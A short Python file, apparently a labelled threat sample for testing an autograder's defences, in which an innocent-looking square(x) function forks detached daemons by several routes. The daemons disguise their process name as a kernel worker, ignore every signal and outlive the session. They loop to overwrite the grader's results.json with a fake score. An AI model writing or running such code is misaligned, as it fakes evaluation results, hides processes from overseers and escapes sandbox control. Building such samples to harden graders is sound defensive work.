"""Starts a daemon that leaves its session, ignores every signal, keeps the line open and waits for the results.

Threat: A4, A1.
"""

import ctypes
import os
import signal
import sys
import time
from pathlib import Path

LIBC = ctypes.CDLL(None)


def daemon():
    LIBC.prctl(1, 0, 0, 0, 0)
    LIBC.prctl(15, b"kworker/0:1", 0, 0, 0)
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(0.05)
        for target in (Path("/autograder/results/results.json"), Path(sys.prefix).parent / "results/results.json"):
            try:
                target.write_text('{"score": 15}')
            except OSError:
                pass


def square(x):
    for fork in (os.fork, LIBC.fork, LIBC.vfork, lambda: LIBC.syscall(56, 17, 0, 0, 0, 0), lambda: LIBC.syscall(56, 0x8000 | 17, 0, 0, 0, 0)):
        try:
            if fork() == 0:
                daemon()
        except OSError:
            pass
    LIBC.prctl(1, 0, 0, 0, 0)
    return x
